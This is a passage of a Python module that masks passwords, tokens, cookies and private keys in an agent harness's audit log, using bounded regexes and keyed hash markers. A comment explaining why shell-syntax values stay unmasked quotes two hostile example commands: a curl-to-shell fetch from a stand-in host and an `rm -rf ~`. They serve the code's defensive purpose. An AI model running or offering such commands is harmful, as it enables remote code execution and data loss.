"""Masking of secret-looking values in audit payloads.

The audit copy of a payload is what auditors, exports and replays read, and it is kept
forever; so secrets are masked before the event is hashed and stored. The live records
(the call's exact arguments, what the reviewer is shown, the digest) are not touched:
masking happens only on the way into the log. See docs/audit.md.

Every pattern runs in time linear in the text, whatever the text: a part that could
backtrack is bounded (a name is at most MAX_NAME characters, a separator a few spaces),
a value is matched possessively (`++`, never given back), a name's ending is checked by
fixed-width lookbehinds rather than by searching, and a command's arguments are read once
per command. A pattern whose literal cannot occur in the text is skipped. The masked text
stays valid JSON when the text was JSON (values stop at an unescaped quote), so the audit
copy of a call's raw arguments still reads as JSON. tests/audit/test_masking_speed.py
feeds each pattern the inputs that made the old patterns backtrack.
"""

from __future__ import annotations

import base64
import bisect
import functools
import hashlib
import hmac
import itertools
import json
import math
import re
from collections import Counter
from collections.abc import Callable, Iterator
from typing import Any

from django.conf import settings

MASK = "[masked"  # the start of every marker: [masked:KIND#HASH]
MAX_NAME = 128  # the longest key or variable name that is read as a name

# Key names whose value is a secret, compared after lower-casing and mapping "-" to "_",
# and again with a camelCase name's words apart ("accessToken": access_token, "dbPass":
# db_pass; see `is_secret_key`). "token_prefix" or "max_tokens" do not match: the name
# must end with the secret word.
SECRET_KEY = re.compile(
    r"(^|_)(token|access_token|refresh_token|id_token|password|pass_word|passwd|passphrase|pwd"
    r"|pass|secret|secret_key|secret_access_key|client_secret|api_key|apikey|authorization"
    r"|auth|credentials?|private_key|cookie|session_key)$"
)
_CAMEL = re.compile(r"(?<=[a-z0-9])(?=[A-Z])")


def _words(words: tuple[str, ...], before: str = "") -> str:
    """`words` as one alternation in which every branch starts with one literal letter (in
    either case), so the regex engine jumps from candidate to candidate instead of trying
    the whole pattern at every position. `before`: a one-character class that must not
    precede the word (checked by a lookbehind placed after that first letter)."""
    branches = []
    for word in sorted(words, key=len, reverse=True):
        first, rest = word[0], word[1:]
        letter = f"[{first.lower()}{first.upper()}]" if first.isalpha() else re.escape(first)
        guard = f"(?<!{before}{letter})" if before else ""
        branches.append(letter + guard + (f"(?i:{rest})" if rest else ""))
    return "(?:" + "|".join(branches) + ")"


# A secret word anywhere in a name (PGPASSWORD, AWS_SECRET_ACCESS_KEY, GITHUB_TOKEN ...),
# but not a count of tokens (max_tokens, tokenizer, token_limit). In regex syntax.
_WORD = (
    r"(?:[aA](?i:pi[_-]?key|pikey)"
    r"|[tT](?i:oken)(?!(?i:s\b|iz|_?(?:count|limit|prefix|usage|len)))"
    r"|[sS](?i:ecret)|[pP](?i:assw(?:or)?d|assphrase|wd))"
)
# A name that ends with a secret word ("-pass" only as a whole word: --pass, --db-pass),
# as fixed-width lookbehinds after the name was read: no searching inside the name.
_ENDS_SECRET = (
    "(?:"
    + "|".join(
        f"(?<=(?i:{re.escape(word)}))"
        for word in (
            "token",
            "secret",
            "password",
            "passwd",
            "passphrase",
            "pwd",
            "apikey",
            "api_key",
            "api-key",
            "-pass",
            "_pass",
        )
    )
    + ")"
)
# A JSON key (between its quotes) that SECRET_KEY reads as a secret and _ENDS_SECRET does
# not: a whole word after the start of the name, "-" or "_" (`"Cookie"`, `"x_auth"`, not
# `"oauth"`), so that arguments, which reach the log as JSON text, are masked as a payload's
# keys are.
_JSON_KEY_ENDS = (
    "(?:"
    + _ENDS_SECRET
    + "|"
    + "|".join(
        f'(?<=(?i:[-_"]{word}))'
        for word in (
            "authorization",
            "auth",
            "credential",
            "credentials",
            "private_key",
            "private-key",
            "cookie",
            "session_key",
            "session-key",
            "secret_key",
            "secret-key",
            "secret_access_key",
            "secret-access-key",
            "pass",
            "pass_word",
            "pass-word",
            "privatekey",
            "sessionkey",
            "secretkey",
            "secretaccesskey",
        )
    )
    # camelCase keys, as a payload's own keys are read (`is_secret_key`): "privateKey"
    + "|"
    + "|".join(
        f'(?<=[a-z0-9"]{word})'
        for word in (
            "Authorization",
            "Auth",
            "Credential",
            "Credentials",
            "PrivateKey",
            "Cookie",
            "SessionKey",
            "SecretKey",
            "SecretAccessKey",
            "Pass",
            "PassWord",
        )
    )
    + ")"
)
# Between an option and its value: spaces (shell text), or the end of one JSON string and
# the start of the next (an argument list in JSON text: "--password", "hunter2").
_ARG_SEP = r"""(?:\s{1,8}+|"\s{0,4}+,\s{0,4}+"|'\s{0,4}+,\s{0,4}+')"""
# One argument value: stops at white space, quotes, shell operators and at a backslash
# that escapes a quote (inside JSON text), never crossing the end of a JSON string.
_ARG = r"""(?:[^\s"'\\,;&|]++|\\[^\s"'])++"""
# The rest of a name after its secret word: stops at the next secret word, so that a name
# holding many (tokentokentoken...) is read once, not once per word.
_NAME_TAIL = r"(?:[^aAtTsSpP\W]++|[.-]|(?!" + _WORD + r")[aAtTsSpP])" + f"{{0,{MAX_NAME}}}+"
# What stands between two strings of JSON text (`","`, `": "`): after NAME= it is not a
# quoted value but where the string holding NAME= ends, and masking it broke the JSON.
_JSON_BETWEEN = r"\s{0,16}+[,:\[\]{}]{1,4}+\s{0,16}+"
# A value after NAME= or NAME: : JSON-escaped quotes, double or single quotes, or bare;
# the quotes it had are captured (esc, dq, sq) so the replacement keeps them.
_VALUE = (
    r"""(?P<esc>\\")?(?(esc)(?:[^"\\\n]++|\\[^"\n])*+\\"|(?P<dq>")?(?(dq)(?!"""
    + _JSON_BETWEEN
    + r"""")[^"\n\\]++"|"""
    r"""(?P<sq>')?(?(sq)(?:[^'\n"\\]++|\\[^"\n])++'|(?!['"])(?:[^\s'"&;,\\]++|\\[^\s"'])++)))"""
)
# Values already masked are left alone (masking twice changes nothing).
_NOT_MASKED = r"(?!\[masked)"
# What a masked value must not hold: anything a shell or an interpreter reads as more
# than one literal word (white space, expansions, substitutions, quotes, operators,
# escapes). A value holding one is kept as it is: the audit copy must show what ran, and
# `TOKEN="$(curl evil | sh)"` or `--password $(rm -rf ~)` are commands, not secrets.
_SHELL_SYNTAX = re.compile(r"[\s$`()|;&<>{}\\\"']")
# A value under a key named like a secret (`{"password": "hunter 2\n"}`) is a value, not
# words a shell splits: it is masked whatever white space it holds (a passphrase, a
# trailing newline), and kept only when it holds the rest of that syntax.
_VALUE_SYNTAX = re.compile(r"[$`()|;&<>{}\\\"']")
# A PEM or OpenSSH private key's body: optional RFC 1421 headers, then lines of base64 of
# one width (the last may be shorter); newlines may be JSON-escaped.
_KEY_HEADER = re.compile(r"(?:Proc-Type|DEK-Info): [A-Za-z0-9,-]{1,80}")
_BASE64_LINE = re.compile(r"[A-Za-z0-9+/=]{1,128}")
MIN_KEY_BODY = 40  # base64 characters: shorter is no key


@functools.lru_cache(maxsize=4096)  # bounded; the same secret comes again and again
def marker(kind: str, value: str) -> str:
    """`[masked:KIND#HASH]`: what kind of secret was there and the first 8 hex digits of a
    keyed hash of it (HMAC-SHA256 under a key derived from HARNESS_SECRET_KEY), so two
    events holding the same secret can be matched without the secret being guessable
    from the log."""
    digest = hmac.new(_hash_key(), value.encode(), hashlib.sha256).hexdigest()[:8]
    # No ":" or "=" after the kind: a marker must not read as `password: value` itself.
    return f"[masked:{kind}#{digest}]"


@functools.cache
def _hash_key() -> bytes:
    return hashlib.sha256(b"harness audit mask\x00" + str(settings.SECRET_KEY).encode()).digest()


def is_plain_secret(value: str) -> bool:
    """Whether `value` may be masked: one literal word, no shell or interpreter syntax."""
    return bool(value) and _SHELL_SYNTAX.search(value) is None


def is_secret_value(value: str) -> bool:
    """Whether `value`, found under a key named like a secret, may be masked: not only
    white space, and no shell or interpreter syntax but white space."""
    return bool(value.strip()) and _VALUE_SYNTAX.search(value) is None


def _json_string(inner: str) -> str | None:
    """The text a JSON string's contents (between its quotes, escapes and all) stand for,
    or None when they are no JSON string."""
    try:
        decoded = json.loads(f'"{inner}"')
    except ValueError:
        return None
    return decoded if isinstance(decoded, str) else None


def is_json_secret_value(inner: str) -> bool:
    """`is_secret_value` for a value in JSON text, read as the string it stands for (an
    escaped newline is white space, an escaped `$` is a `$`)."""
    decoded = _json_string(inner)
    return decoded is not None and is_secret_value(decoded)


def _json_secret(inner: str) -> str:
    """The secret a JSON-escaped value holds, so that its marker's hash is the one the
    same value gets under a payload's own key."""
    decoded = _json_string(inner)
    return inner if decoded is None else decoded


def _nested_json_string(inner: str) -> str | None:
    """The text a JSON string nested in another one stands for (`inner`: its contents as
    the outer string holds them, escapes of both levels), or None."""
    once = _json_string(inner)
    return None if once is None else _json_string(once)


def is_nested_json_secret_value(inner: str) -> bool:
    """`is_json_secret_value` for a value of JSON text inside a JSON string."""
    decoded = _nested_json_string(inner)
    return decoded is not None and is_secret_value(decoded)


def _nested_json_secret(inner: str) -> str:
    """The secret a doubly escaped value holds (its marker's hash is the one the same value
    gets under a payload's own key)."""
    decoded = _nested_json_string(inner)
    return inner if decoded is None else decoded


def is_key_body(body: str) -> bool:
    """Whether `body` (between a private key's BEGIN and END lines) is only a key: headers
    and base64 lines of one width. Anything else (a command between the markers) is
    kept visible."""
    lines = [line.strip() for line in re.split(r"\\[nr]|[\r\n]", body)]
    lines = [line for line in lines if line]
    # (the headers skipped by index: pop(0) per line was quadratic, 3 s on 1 MB of them)
    skip = next((i for i, line in enumerate(lines) if not _KEY_HEADER.fullmatch(line)), len(lines))
    lines = lines[skip:]
    if not lines or not all(_BASE64_LINE.fullmatch(line) for line in lines):
        return False
    width = len(lines[0])
    return (
        sum(map(len, lines)) >= MIN_KEY_BODY
        and all(len(line) == width for line in lines[:-1])
        and len(lines[-1]) <= width
    )


# One cookie of a Cookie header (`name=value`, after its start or a `;`), its value one
# literal word followed by `;`, white space or the end; Set-Cookie's attributes are kept.
_COOKIE_PAIR = re.compile(
    r"(?:^|(?<=;))(\s{0,8}+(?!(?i:path|domain|samesite|max-age|expires)=)"
    r"[A-Za-z0-9_.!#%*+^~-]{1,128}+=)" + _NOT_MASKED + r"(?P<v>[^\s;,\"'\\$`(){}<>|&]++)(?=;|\s|$)"
)


def mask_cookie_pairs(text: str) -> str:
    """`text` (a Cookie header's value) with each cookie's value masked when it is one
    literal word: `a=1; sessionid=xyz` holds `;` and white space, so as one value it was
    kept whole."""
    return _COOKIE_PAIR.sub(_masking("cookie"), text)


def _masking(
    kind: str | Callable[[re.Match[str]], str],
    allowed: Callable[[str], bool] = is_plain_secret,
    secret: Callable[[str], str] = str,
) -> Callable[[re.Match[str]], str]:
    """The replacement of a rule whose pattern names the secret `v` (with its quotes, when
    the pattern has esc/dq/sq groups): everything else in the match is kept, `v` becomes a
    marker (of `secret(v)`), unless it is already one or `allowed` refuses it (then
    nothing changes)."""

    quote_groups: list[tuple[str, ...]] = []  # the pattern's esc/dq/sq groups, read once

    def replace(match: re.Match[str]) -> str:
        if not quote_groups:  # (Pattern.groupindex builds a new mapping on every access)
            quote_groups.append(tuple(g for g in ("esc", "dq", "sq") if g in match.re.groupindex))
        quote = ""
        for group in quote_groups[0]:
            quote = match.group(group) or ""
            if quote:
                break
        value = match.group("v")
        inner = value[len(quote) : len(value) - len(quote)] if quote else value
        if inner.startswith(MASK) or not allowed(inner):
            return match.group(0)
        label = kind if isinstance(kind, str) else kind(match)
        whole, offset = match.group(0), match.start()
        start, end = match.span("v")
        masked = f"{quote}{marker(label, secret(inner))}{quote}"
        return f"{whole[: start - offset]}{masked}{whole[end - offset :]}"

    return replace


# One literal of JSON text: a string (escapes and all) or a number (not part of a word).
_JSON_STRING = r'"(?:[^"\\\n]++|\\.)*+"'
_JSON_NUMBER = r"-?+\d++(?:\.\d++)?+(?:[eE][-+]?+\d++)?+(?![\w.])"
_JSON_LITERAL = f"(?:{_JSON_STRING}|{_JSON_NUMBER}|true|false|null)"
_JSON_ITEM = re.compile(f"{_JSON_STRING}|{_JSON_NUMBER}")


def _masked_json_item(kind: str, match: re.Match[str]) -> str:
    """A string or number of JSON text under a secret's key, as its marker (quoted), as
    `_all_literals` masks the value it stands for; a string holding shell syntax, or
    already masked, is kept."""
    text = match.group(0)
    if text.startswith('"'):
        inner = text[1:-1]
        if inner.startswith(MASK) or not is_json_secret_value(inner):
            return text
        return f'"{marker(kind, _json_secret(inner))}"'
    try:  # the number as json.dumps writes the value it stands for (1e3: 1000.0)
        secret = json.dumps(json.loads(text))
    except ValueError:  # (more digits than Python reads)
        secret = text
    return f'"{marker(kind, secret)}"'


def _kind_of_name(match: re.Match[str]) -> str:
    """The kind of secret a name holds (DB_PASSWORD: password, --api-key: api-key): the
    rule's first group is the name."""
    return _kind_of(match.group(1))


@functools.lru_cache(maxsize=1024)  # bounded: names come from agents
def _kind_of(name: str) -> str:
    name = name.lower()
    for word, kind in (
        ("pass", "password"),
        ("pwd", "password"),
        ("api", "api-key"),
        ("secret", "secret"),
        ("token", "token"),
    ):
        if word in name:
            return kind
    return "secret"


# Characters most text holds few of, the rarest first: a literal is looked for only when
# the text holds the first of these it holds (one scan for one character, at memchr's
# speed, read once for all rules); many rules' literals share one (`\\`, `&`, `%`, a
# line break after a letter).
_RARITY = "\\&%$\r#`^~|<>{}@*;!?\"',+=[]\t_:/\n"


class _Literals:
    """Which literals a text holds (in the lower-cased text when folded), each looked for
    once per text however many rules need it."""

    def __init__(self, text: str, lowered: str) -> None:
        self.texts = (text, lowered)
        self.seen: dict[tuple[str, bool], bool] = {}

    def has(self, literal: str, folded: bool) -> bool:
        held = self.seen.get((literal, folded))
        if held is None:
            rare = _rare_char(literal)
            held = (rare is None or self.has(rare, folded)) and literal in self.texts[folded]
            self.seen[(literal, folded)] = held
        return held


@functools.cache  # (the rules' literals: a fixed set)
def _rare_char(literal: str) -> str | None:
    return None if len(literal) == 1 else next((c for c in _RARITY if c in literal), None)


class _Rule:
    """One pattern, its replacement, and the literals one of which the text must hold
    (looked for in the lower-cased text when `folded`)."""

    def __init__(
        self,
        pattern: str,
        replacement: str | Callable[[re.Match[str]], str],
        needs: tuple[str, ...],
        folded: bool = False,
    ) -> None:
        self.pattern = re.compile(pattern)
        self.replacement = replacement
        self.needs = needs
        self.folded = folded

    def applies(self, found: _Literals) -> bool:
        return any(found.has(literal, self.folded) for literal in self.needs)

    def apply(self, text: str) -> str:
        return self.pattern.sub(self.replacement, text)


_CREDENTIAL_SHAPE = re.compile(r"[0-9+/=._~-]|[a-z][A-Z]")


def _credential(match: re.Match[str]) -> str:
    """`Bearer <credential>`: masked when it looks like one (a digit, a symbol or mixed
    case), so that prose such as "Basic authentication" stays as it is."""
    if _CREDENTIAL_SHAPE.search(match.group("v")):
        return _masking(match.group("scheme").strip().lower())(match)
    return match.group(0)


# Commands whose arguments carry a password in a form of their own, and how.
_ATTACHED_P = re.compile(r"-(?<![\w-]-)(p)(?!-)" + _NOT_MASKED + f"(?P<v>{_ARG})")  # mysql -pX
_SPACED_P = re.compile(
    r"-(?<![\w-]-)(p\s{0,8}+|p" + _ARG_SEP + r")(?!-)" + _NOT_MASKED + f"(?P<v>{_ARG})"
)
_ZIP_P = re.compile(
    r"-(?<![\w-]-)(P\s{0,8}+|P" + _ARG_SEP + r")(?!-)" + _NOT_MASKED + f"(?P<v>{_ARG})"
)
# curl -u user:pass, -uuser:pass, --user=user:pass, --proxy-user user:pass: the user kept.
_CURL_USER = re.compile(
    r"-(?<![\w-]-)((?:u|U|-user|-proxy-user)(?:=|" + _ARG_SEP + r")?['\"]?"
    r"[^\s\"':\\,;&|]{0,256}+:)" + _NOT_MASKED + r"(?P<v>(?:[^\s\"'\\,;&|@]++|\\[^\s\"'])++)"
)
_SCOPED: dict[str, tuple[re.Pattern[str], ...]] = {}
for _names, _patterns in (
    (
        "mysql mysqldump mysqladmin mysqlimport mysqlcheck mysqlshow mysqlpump mysqlslap "
        "mariadb mariadb-dump mariadb-admin mariadb-import mariadb-check mariadb-show "
        "7z 7za 7zr 7zz unrar rar",
        (_ATTACHED_P,),
    ),
    ("sshpass", (_SPACED_P,)),
    ("zip unzip zipcloak", (_ZIP_P,)),
    ("curl", (_CURL_USER,)),
):
    for _name in _names.split():
        _SCOPED[_name] = _patterns


def _command_arguments(match: re.Match[str]) -> str:
    """One command and the rest of it (up to a newline or shell operator), its password
    arguments masked; each command's text is read once."""
    rest = match.group("rest")
    for pattern in _SCOPED[match.group("command")]:
        rest = pattern.sub(_masking("password"), rest)
    return match.group("command") + rest


def _command_word(names: tuple[str, ...]) -> str:
    """The names, case-sensitive, as whole words (a path before them is fine: /usr/bin/mysql)."""
    branches = []
    for name in sorted(names, key=len, reverse=True):
        first = re.escape(name[0])
        branches.append(f"{first}(?<![\\w.-]{first}){re.escape(name[1:])}")
    return "(?:" + "|".join(branches) + r")(?![\w.-])"


_SECRET_WORDS = ("token", "secret", "pass", "pwd", "apikey", "api_key", "api-key")

# An escape of one ASCII character (_escapes): JSON's (`\u005f`), or `\x5f` (bash's `$'...'` and
# printf, Python's and JavaScript's strings) or `\U0000005f` (bash, Python), behind as many
# backslashes as levels of JSON text inside JSON text hold it (the fifth level: 16). The
# backslashes are read possessively from the first of a run only (a lookbehind), so a
# long run of them is read once, not once per position: linear time. Also, each behind
# the same backslashes: an octal escape (`\150`: C, bash's `$'...'`, printf; `\0150`:
# printf's %b and echo -e), JavaScript's, Ruby's and Rust's `\u{68}`; and an HTML
# character reference (`&#104;`, `&#x68;`, with leading zeros, with or without its `;`
# as browsers read it, `&lowbar;`: a web page's source, an encoder that writes every
# character as one; escaped again, `&amp;#104;`, as a page showing that source holds it);
# and a URL-encoded character (`%68`: a URL encoder that encodes every character), also
# encoded again up to three times more (`%2568`: a URL holding that URL as a parameter).
_BACKSLASHES = r"(?<!\\)\\++"
_ESCAPED = re.compile(
    r"\\++(?:u(?P<u>[0-9A-Fa-f]{4})|x(?P<x>[0-9A-Fa-f]{2})|U(?P<U>[0-9A-Fa-f]{8})"
    r"|u\{0{0,6}+(?P<brace>[0-9A-Fa-f]{1,6}+)\}|0?(?P<octal>1[0-7]{2}|0[4-7][0-7]))"
    r"|&(?:amp;){0,4}+#(?:[xX]0{0,8}+(?P<hexref>[0-9A-Fa-f]{1,6}+)|0{0,8}+(?P<decref>[0-9]{1,7}+));?"
    r"|(?P<lowbar>&(?:amp;){0,4}+(?:lowbar|UnderBar);)|%(?:25){0,3}+(?P<pct>[0-9A-Fa-f]{2})"
)
# What a text holding an escaped character of a token holds (any escape _escapes reads).
# (An HTML reference escaped again, `&amp;#104;`; a prefix's character URL-encoded, `%68`.)
_ESCAPE_NEEDS: tuple[str, ...] = ("\\u", "\\x", "\\U", "\\0", "\\1", "&#", "&lowbar;", "&UnderBar;")
_ESCAPE_NEEDS += ("amp;#", "amp;lowbar;", "amp;UnderBar;", "%68", "%72", "%6", "%5f", "%5F")
_ESCAPE_NEEDS += ("%256", "%257", "%255f", "%255F", "%2525")  # (URL-encoded again: `%2568`)
_BASES = {"u": 16, "x": 16, "U": 16, "brace": 16, "octal": 8, "hexref": 16, "decref": 10, "pct": 16}


def _hexes(codes: list[int]) -> str:
    """The two hex digits of any of `codes` (ASCII) as an escape may write them (either
    case), one branch per first digit: `6[1-9a-fA-F]|7[0-9aA]` (a branch per code made a
    run of 1 MB of escapes take seconds)."""
    lows: dict[int, set[str]] = {}
    for code in codes:
        low = f"{code & 15:x}"
        lows.setdefault(code >> 4, set()).update((low, low.upper()))
    return "|".join(f"{high:x}[{''.join(sorted(digits))}]" for high, digits in sorted(lows.items()))


def _escapes(codes: list[int]) -> str:
    """Any escape (`\\u00..`, `\\x..`, `\\U000000..`, octal, `\\u{..}`, an HTML character
    reference) of one of `codes` (ASCII), as one alternation; each branch starts with a
    `\\` or a `&`."""
    hexes = _hexes(codes)
    octal = "|".join(f"{c:03o}" for c in codes)
    decimal = "|".join(sorted((str(c) for c in codes), key=len, reverse=True))
    lowbar = "|&(?:amp;){0,4}+(?:lowbar|UnderBar);" if ord("_") in codes else ""
    return (
        f"(?:{_BACKSLASHES}(?:(?:u00|x|U000000)(?:{hexes})|u\\{{0{{0,4}}+(?:{hexes})\\}}"
        f"|0?(?:{octal}))|&(?:amp;){{0,4}}+#(?:[xX]0{{0,6}}+(?:{hexes})(?:;|(?![0-9A-Fa-f]))"
        f"|0{{0,6}}+(?:{decimal})(?:;|(?![0-9]))){lowbar}|%(?:25){{0,3}}+(?:{hexes}))"
    )


def _escapable(chars: str) -> str:
    """One of `chars` (a character, or a class like `[or]`), written as it is or as an
    escape of it."""
    options = chars[1:-1] if chars.startswith("[") else chars
    return f"(?:{chars}|{_escapes([ord(c) for c in options])})"


def _hex_digit() -> str:
    return "(?:[0-9a-f]|" + _escapes([ord(c) for c in "0123456789abcdef"]) + ")"


_TOKEN_CHARS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-"
# One character of a token's body ([A-Za-z0-9_-]), as it is or as an escape of it.
_TOKEN_CHAR = r"(?:[A-Za-z0-9_-]|" + _escapes([ord(c) for c in _TOKEN_CHARS]) + ")"


def _harness_token(prefix: str, run_in: bool = False) -> str:
    """The start of a rule's first group: `prefix` ("hrn_", "hr[or]_"), each character as
    it is or escaped; a literal first letter only where a word cannot run into it (a word
    boundary, or a URL-encoded character or an escape before it), unless `run_in` (a rule
    that masks only whole tokens)."""
    first, rest = prefix[0], prefix[1:]
    boundary = (
        ""
        if run_in
        else (
            f"(?:(?<=\\b{first})|(?<=%[0-9A-Fa-f]{{2}}{first})|(?<=\\\\[bfnrt]{first})"
            f"|(?<=\\\\u[0-9A-Fa-f]{{4}}{first})|(?<=\\\\x[0-9A-Fa-f]{{2}}{first})"
            f"|(?<=\\\\[0-7]{{3}}{first}))"
        )
    )
    chars = re.findall(r"\[[^]]+\]|.", rest)
    return f"((?:{first}{boundary}|{_escapes([ord(first)])})" + "".join(
        _escapable(c) for c in chars
    )


def _any_token(value: str) -> bool:
    return True  # (the pattern reads only a token's characters and their escapes)


def _token_masking(kind: str) -> Callable[[re.Match[str]], str]:
    """The replacement of a rule of Harness's tokens (the prefix is group 1, the rest `v`):
    a prefix URL-encoded (`%68%72%6F%5F`) or an HTML reference escaped again (`&amp;#104;`)
    is no word boundary (`%63%68%72%6F%5F...` is `chro_...`, URL-encoded text often a
    word), so such a token is masked only when it is whole (_whole_token)."""
    masking = _masking(kind, _any_token, _unescaped)

    def replace(match: re.Match[str]) -> str:
        prefix = match.group(1)
        if "%" in prefix or "&amp;" in prefix:
            read = _unescaped(prefix) + _unescaped(match.group("v"))
            if not _whole_token(read[:4], read[4:]):
                return match.group(0)
        return masking(match)

    return replace


def _unescaped(value: str) -> str:
    """The token a match stands for, its escapes read: its marker is the plain token's."""
    if "\\" not in value and "&" not in value and "%" not in value:
        return value
    return _ESCAPED.sub(_escaped_char, value)


def _escaped_char(match: re.Match[str]) -> str:
    group = match.lastgroup or ""  # (the one group that matched)
    if group == "lowbar":
        return "_"
    code = int(match[group], _BASES[group])
    return chr(code) if code < 0x110000 else "\ufffd"


# The length of what follows a Harness token's prefix: an OAuth token's body
# (token_urlsafe(32): 43 characters; agentauth.tokens), an agent's token's visible prefix
# and body (8 hex digits, "_", 43; dispatcher.agents). Read only where a token is found
# without its usual frame (split by a line break, or run into a word): there the whole
# token must be there, of its exact length, with upper and lower case letters in its body
# (a random body has both but once in billions), so that words stay (`synchro_...`,
# `hrr_rate` over a list of names). tests/redteam/test_leftweb_masking.py pins the lengths.
TOKEN_BODY = 43
_AFTER_PREFIX = {"hro_": TOKEN_BODY, "hrr_": TOKEN_BODY, "hrn_": 9 + TOKEN_BODY}
_HEX_PART = re.compile(r"[0-9a-f]{8}_")


def _whole_token(prefix: str, rest: str) -> bool:
    """Whether `rest` (read, escapes and all) is all of a token after `prefix`."""
    if len(rest) != _AFTER_PREFIX.get(prefix, -1):
        return False
    if prefix == "hrn_":
        if not _HEX_PART.match(rest):
            return False
        rest = rest[9:]
    return any(c.isupper() for c in rest) and any(c.islower() for c in rest)


def _masked_token(prefix_as_written: str, rest: str) -> str:
    """A whole token (`rest` read) as the plain rules mask it: hrn_'s hex part kept."""
    prefix = _unescaped(prefix_as_written)
    if prefix == "hrn_":
        return f"{prefix_as_written}{rest[:9]}{marker('harness-token', rest[9:])}"
    return f"{prefix_as_written}{marker('harness-oauth-token', rest)}"


def _run_token(match: re.Match[str]) -> str:
    """A token run into a word before it (`grep --color`'s ESC[K, `MY_TOKEN_hro_...`,
    a bytes repr's `\\x008hrn_...`): masked when it is a whole token (_whole_token)."""
    rest = _unescaped(match.group("v"))
    if not _whole_token(_unescaped(match.group(1)), rest):
        return match.group(0)
    return _masked_token(match.group(1), rest)


# A line break inside a token, as text holds it: a newline (CRLF too), after a `\` that
# continues the line (shell, Python, YAML double-quoted), or JSON-escaped (`\n`, `\\\n`,
# one level of backslashes per level of JSON text); then, in a unified diff (the preview of
# a file an agent writes, shown to reviewers and kept in the audit), the line's `+` or `-`;
# then up to 16 spaces or tabs of indentation (textwrap's subsequent_indent, YAML).
# Or a quoted-printable soft line break (`=` then the line break: an email tool's lines
# of at most 76 characters, Python's quopri and email packages). Bounded and possessive.
_LINE_END = r"(?:=?+\\?+\r?+\n|=?+\\{1,64}+(?:r\\{1,64}+)?+n)"
_INDENT = r"[ \t]{0,16}+"
# The next part of a split token: a line break, then token characters (not another
# token's prefix: a line that starts one is that token's, not this one's rest). One
# pattern per diff mark: every line of a token split in a diff carries the same one.
_NEXT_PART = {
    mark: re.compile(
        _LINE_END + re.escape(mark) + _INDENT + "(?!hr[nor]_)(" + _TOKEN_CHAR + "{1,64}+)"
    )
    for mark in ("", "+", "-")
}
_SPLIT_START = re.compile(
    _harness_token("hr[nor]_", run_in=True)
    + ")(?P<a>"
    + _TOKEN_CHAR
    + "{0,51}+)(?="
    + _LINE_END
    + ")"
)
# A token whose line break falls inside its prefix (`hr` / `o_...`: 3 places in every
# line's width, for fold and quoted-printable alike), the prefix written plain.
_PREFIX_BROKEN = {
    mark: re.compile(
        r"h(?:" + _LINE_END + re.escape(mark) + _INDENT + ")?+r"
        "(?:" + _LINE_END + re.escape(mark) + _INDENT + ")?+([nor])"
        "(?:" + _LINE_END + re.escape(mark) + _INDENT + ")?+_"
        "(?P<a>" + _TOKEN_CHAR + "{0,51}+)"
    )
    for mark in ("", "+", "-")
}
_BROKEN_NEEDS = re.compile(r"h(?:r[nor]?+)?+=?+(?:\\?+\r?+\n|\\++(?:r\\++)?+n)")
MAX_LINE_BREAKS = 6  # fold -w 16 splits a token's 43 characters in 3; textwrap more (below)
# A part that does not end the token is a whole line: no narrower, unless it ends at a
# hyphen: textwrap breaks a long word after its hyphens too (a token of base64url holds
# one about every other time), so a middle line may hold only `Y5-`.
MIN_LINE = 8


# A token folded narrower than MIN_LINE (`fold -w 1` to `-w 7`, textwrap as narrow): lines
# of at most 7 characters, the first (its end) holding the token's start. Such a run of
# lines is read once, joined, under each reading of its lines: as written, and without a
# head many of them share (a diff's `+`, an indent: `    `), each line that has it read
# without it. Fold breaks a line only at its width (textwrap also after a hyphen), so a
# line of the token's width, or one ending at a hyphen, runs on into the next (a fold's
# break); any other line ended where the text did (a line break of its own). A whole token
# there (_whole_token: its exact length, its lines between the first and the last of one
# width) is written whole when one of its ends is clear: no word runs into its start, or
# none runs on from its end. A side is clear when a character that is no token's stands
# there, or a line break of the text's own. Where fold's break falls just after the token
# (its length a multiple of the width, so always at `fold -w 1`), its end is not clear
# but its start may be; only a token run into words on both sides across fold's breaks is
# kept (nothing says where it starts or where it ends).
_NARROW_END = r"(?:\r?+\n|\\{1,64}+(?:r\\{1,64}+)?+n)"
_NARROW_HEAD = r"(?:[-+ \t][ \t]{0,15}+)?"
_NARROW_LINE = _NARROW_END + _NARROW_HEAD + r"[^\r\n\\]{1,7}+(?![^\r\n\\])"
_NARROW = re.compile(r"[^\r\n\\]{1,7}+(?=" + _NARROW_END + ")(?:" + _NARROW_LINE + "){6,}+")
_NARROW_BREAK = re.compile(_NARROW_END)
_HEADS = re.compile(_NARROW_END + r"([-+ \t][ \t]{0,15}+)")
_MAYBE_BREAK = "(?:" + _NARROW_END + _NARROW_HEAD + ")?+"
# A token's prefix in narrow lines, a line break anywhere in it: a window without one is
# not read further.
_NARROW_PREFIX = re.compile(f"h{_MAYBE_BREAK}r{_MAYBE_BREAK}[nor]{_MAYBE_BREAK}_")
_NARROW_CANDIDATE = re.compile(
    r"(?<![A-Za-z0-9_-])hr[nor]_[A-Za-z0-9_-]{43}|hr[nor]_[A-Za-z0-9_-]{43,52}+(?![A-Za-z0-9_-])"
)
# What a window's lines, joined (a head read as one, or as none), hold where they may hold
# a token _narrow_tokens finds: _NARROW_CANDIDATE, or a prefix and 43 token characters
# with no other prefix among them (its end not clear, or clear at a line break of the
# text's own, which joining hides: `hro_Abhro_Ab...` is neither).
_NARROW_MAYBE = re.compile(
    _NARROW_CANDIDATE.pattern + r"|hr[nor]_(?:(?!hr[nor]_)[A-Za-z0-9_-]){43}"
)
_NARROW_BREAK_HEAD = re.compile(_NARROW_END + _NARROW_HEAD)
# Fold's breaks at each width (_Folds): a line of that width, or one ending at a hyphen or
# before one starting with `--` (textwrap), and its end.
_FOLD_BREAKS = {
    width: re.compile(
        rf"^([^\n]{{{width}}}|[^\n]{{0,{width - 1}}}-|[^\n]{{0,{width - 1}}}(?=\n--))\n",
        re.MULTILINE,
    )
    for width in range(1, MIN_LINE)
}
_WIDTHS = frozenset(_FOLD_BREAKS)
_TOKEN_CHARS_SET = frozenset(_TOKEN_CHARS)


def _narrow_joined(text: str) -> str:
    """`text` with each whole token folded narrower than MIN_LINE written in one piece.
    A run of narrow lines is joined and searched in C; it is read line by line only when
    it holds a token's prefix."""
    found = _Found()
    for block in _NARROW.finditer(text):
        for begin, stop in _windows(text, block.start(), block.end()):
            _narrow_window(text, (begin, stop, block.start(), block.end()), found)
    if not found:
        return text
    out: list[str] = []
    done = 0
    for start in sorted(found):
        end, token = found[start]
        if start >= done:
